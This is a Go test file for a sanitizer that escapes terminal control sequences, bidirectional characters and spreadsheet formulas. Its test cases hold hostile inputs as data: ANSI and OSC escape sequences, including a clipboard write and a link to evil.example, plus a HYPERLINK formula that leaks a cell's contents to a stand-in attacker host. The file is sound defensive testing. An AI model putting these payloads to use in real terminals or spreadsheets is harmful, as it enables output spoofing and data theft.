package printable

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestText(t *testing.T) {
	tests := []struct {
		name, in, text, line string
	}{
		{"plain", "Egypt's air force, 2017 — «ok»", "Egypt's air force, 2017 — «ok»", "Egypt's air force, 2017 — «ok»"},
		{"clear screen", "a\x1b[2Jb", `a\x1b[2Jb`, `a\x1b[2Jb`},
		{"OSC 52 clipboard", "\x1b]52;c;ZXZpbA==\x07", `\x1b]52;c;ZXZpbA==\x07`, `\x1b]52;c;ZXZpbA==\x07`},
		{"OSC 8 link", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", `\x1b]8;;http://evil.example\x1b\x\x1b]8;;\x1b\`, `\x1b]8;;http://evil.example\x1b\x\x1b]8;;\x1b\`},
		{"carriage return", "safe\rEVIL", `safe\x0dEVIL`, `safe\x0dEVIL`},
		{"NUL and DEL", "a\x00b\x7f", `a\x00b\x7f`, `a\x00b\x7f`},
		{"C1 CSI", "a\u009b2Jb", `a\x9b2Jb`, `a\x9b2Jb`},
		{"right-to-left override", "abc\u202edcb", `abc\u202edcb`, `abc\u202edcb`},
		{"isolate and mark", "\u2066x\u2069\u200f", `\u2066x\u2069\u200f`, `\u2066x\u2069\u200f`},
		{"invalid UTF-8", "a\xffb", "a\uFFFDb", "a\uFFFDb"},
		{"tab to the next stop", "ab\tc\n\td", "ab      c\n        d", `ab      c\x0a   d`},
		{"newline", "one\ntwo", "one\ntwo", `one\x0atwo`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Text(tt.in); got != tt.text {
				t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.text)
			}
			if got := Line(tt.in); got != tt.line {
				t.Errorf("Line(%q) = %q, want %q", tt.in, got, tt.line)
			}
		})
	}
}

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?leak="&A1,"x")`, `'=HYPERLINK("http://evil.example/?leak="&A1,"x")`},
		{"+1", "'+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "        =1"},
		{"\r=1", `\x0d=1`},
		{"plain text", "plain text"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := Cell(tt.in); got != tt.want {
			t.Errorf("Cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// FuzzText: what Text and Line give is valid UTF-8 with no control
// character (Text keeps line breaks) and no bidirectional control, and text
// with none to begin with is unchanged.
func FuzzText(f *testing.F) {
	for _, s := range []string{"", "plain", "a\x1b[2J", "\t\tx", "\u202e", "\xff\xfe", "a\nb\r\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, lines := range []bool{true, false} {
			got := clean(s, lines)
			if !utf8.ValidString(got) {
				t.Fatalf("clean(%q, %v) = %q: invalid UTF-8", s, lines, got)
			}
			safe := true
			for _, r := range s {
				if r == utf8.RuneError || r == '\t' || unicode.IsControl(r) && !(r == '\n' && lines) || bidi(r) {
					safe = false
				}
			}
			for _, r := range got {
				if unicode.IsControl(r) && !(r == '\n' && lines) || bidi(r) {
					t.Fatalf("clean(%q, %v) = %q: keeps %U", s, lines, got, r)
				}
			}
			if safe && !strings.Contains(s, "\uFFFD") && got != s {
				t.Fatalf("clean(%q, %v) = %q: changed safe text", s, lines, got)
			}
		}
	})
}
